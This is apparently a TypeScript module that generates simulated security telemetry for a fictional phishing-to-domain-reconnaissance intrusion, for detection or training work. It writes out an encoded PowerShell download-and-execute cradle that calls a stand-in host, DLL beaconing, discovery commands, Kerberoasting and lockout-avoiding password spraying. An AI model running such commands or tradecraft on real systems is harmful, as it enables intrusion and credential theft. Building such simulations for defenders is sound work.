import { MINUTE, SECOND } from '../../../shared/model/time.ts';
import { askTgt, askTicket, failPreAuthentication, RC4 } from '../acts/kerberos.ts';
import { refuseOverNetwork, type Session, validateOverNtlm } from '../acts/logons.ts';
import { connect, createFile, olderProcess, type Process, startProcess } from '../acts/processes.ts';
import { SERVICE_ACCOUNTS, WITHOUT_PREAUTHENTICATION } from '../company.table.ts';
import type { Account } from '../company.ts';
import type { Scene } from '../scene.ts';
import { INTRUSION } from './intrusion.table.ts';

const SYSTEM32 = 'C:\\Windows\\System32';
const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16';
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
/** Options that tools ask with: forwardable, renewable, canonicalize, and "renewable-ok", which Windows never sets for a service ticket. */
const TOOL_OPTIONS = 0x40810010;
const WRONG_PASSWORD = 0xc000006a;

/** Wednesday: a document from a mail, a shell, a look around. Returns the shell that the intruder keeps. */
export function openAttachment(scene: Scene, session: Session): Process {
  const { host } = session;
  const at = INTRUSION.phishedAt;
  const home = `C:\\Users\\${session.account.name}`;
  const outlook = olderProcess(scene, host, session, `${OFFICE}\\OUTLOOK.EXE`);
  const document = `${home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\R4T2KQ\\Remittance advice 2026-11.docm`;
  createFile(scene, at - 4 * SECOND, outlook, document);
  const word = startProcess(scene, at, outlook, `${OFFICE}\\WINWORD.EXE`, `"${OFFICE}\\WINWORD.EXE" /n "${document}"`);
  const encoded = Buffer.from("IEX(New-Object Net.WebClient).DownloadString('https://cdn-remit.example/a')", 'utf16le').toString('base64');
  const first = startProcess(scene, at + 21 * SECOND, word, `${SYSTEM32}\\cmd.exe`, `cmd.exe /c powershell -w hidden -nop -enc ${encoded}`);
  const loader = startProcess(scene, at + 22 * SECOND, first, POWERSHELL, `powershell  -w hidden -nop -enc ${encoded}`);
  connect(scene, at + 24 * SECOND, loader, INTRUSION.controlAddress, 'cdn-remit.example', 443);
  createFile(scene, at + 31 * SECOND, loader, `${home}\\AppData\\Roaming\\Teamsync\\tsync.dll`);
  const shell = startProcess(
    scene,
    at + 40 * SECOND,
    loader,
    `${SYSTEM32}\\rundll32.exe`,
    `rundll32.exe "${home}\\AppData\\Roaming\\Teamsync\\tsync.dll",Start`,
  );
  for (let later = at + 42 * SECOND; later < INTRUSION.endsAt; later += 29 * MINUTE + scene.random.between(0, 400) * SECOND)
    connect(scene, later, shell, INTRUSION.controlAddress, 'cdn-remit.example', 443);
  return shell;
}

const LOOK_AROUND: readonly (readonly [after: number, program: string, command: string])[] = [
  [0, 'whoami.exe', 'whoami  /all'],
  [37, 'ipconfig.exe', 'ipconfig  /all'],
  [71, 'systeminfo.exe', 'systeminfo'],
  [126, 'net.exe', 'net  user /domain'],
  [171, 'net.exe', 'net  group "Domain Admins" /domain'],
  [204, 'nltest.exe', 'nltest  /dclist:tarnwick.example'],
  [262, 'setspn.exe', 'setspn  -T tarnwick.example -Q */*'],
  [330, 'net.exe', 'net  view \\\\FILE01 /all'],
];

export function lookAround(scene: Scene, shell: Process): void {
  for (const [after, program, command] of LOOK_AROUND)
    startProcess(scene, INTRUSION.lookedAroundAt + after * SECOND, shell, `${SYSTEM32}\\${program}`, command);
}

/** Tickets that can be guessed offline: of every account with a principal name, the decoy among them, and of the one without preauthentication. */
export function roast(scene: Scene, shell: Process): void {
  const { company } = scene;
  const controller = company.host('DC01');
  const { account } = shell.session!;
  connect(scene, INTRUSION.roastedAt - 20 * SECOND, shell, controller.address, controller.fqdn, 389);
  SERVICE_ACCOUNTS.forEach(([name], index) => {
    askTicket(scene, INTRUSION.roastedAt + index * 340_000, account, company.account(name), shell.host, {
      encryption: RC4,
      options: TOOL_OPTIONS,
      controller,
    });
  });
  askTgt(scene, INTRUSION.roastedAt + 6 * MINUTE, company.account(WITHOUT_PREAUTHENTICATION), shell.host, {
    encryption: RC4,
    options: 0x40800010,
    preAuthentication: '0',
    controller,
  });
}

/** One password, tried on nearly everybody, slowly enough that no account is locked; it fits one. */
export function spray(scene: Scene, shell: Process): void {
  const { company } = scene;
  const controller = company.host('DC01');
  const tried: Account[] = company.people.map(({ account }) => account).filter((account) => account !== shell.session!.account);
  connect(scene, INTRUSION.sprayedAt - SECOND, shell, controller.address, controller.fqdn, 88);
  tried.forEach((account, index) => {
    const at = INTRUSION.sprayedAt + index * 19 * SECOND + scene.random.between(0, 3_000_000);
    if (account.name === INTRUSION.sprayedAccount) askTgt(scene, at, account, shell.host, { encryption: RC4, controller });
    else failPreAuthentication(scene, at, account, shell.host, controller);
  });
}

/** Guesses at the local administrator of the file server; none fits. */
export function guess(scene: Scene, shell: Process): void {
  const server = scene.company.host('FILE01');
  connect(scene, INTRUSION.guessedAt - SECOND, shell, server.address, server.fqdn, 445);
  for (let attempt = 0; attempt < INTRUSION.guesses; attempt += 1) {
    const at = INTRUSION.guessedAt + attempt * 4_100_000 + scene.random.between(0, 900_000);
    refuseOverNetwork(scene, at, { domain: server.name, name: 'locadmin', subStatus: WRONG_PASSWORD }, shell.host, server);
  }
}

/** Thursday night: the decoy's password has been guessed too, and its owner finds that it opens nothing. */
export function tryDecoy(scene: Scene, shell: Process): void {
  const { company } = scene;
  const controller = company.host('DC01');
  validateOverNtlm(scene, INTRUSION.decoyAt, 'svc-archive', shell.host, 0xc0000071, controller);
  failPreAuthentication(scene, INTRUSION.decoyAt + 50 * SECOND, company.account('svc-archive'), shell.host, controller);
}
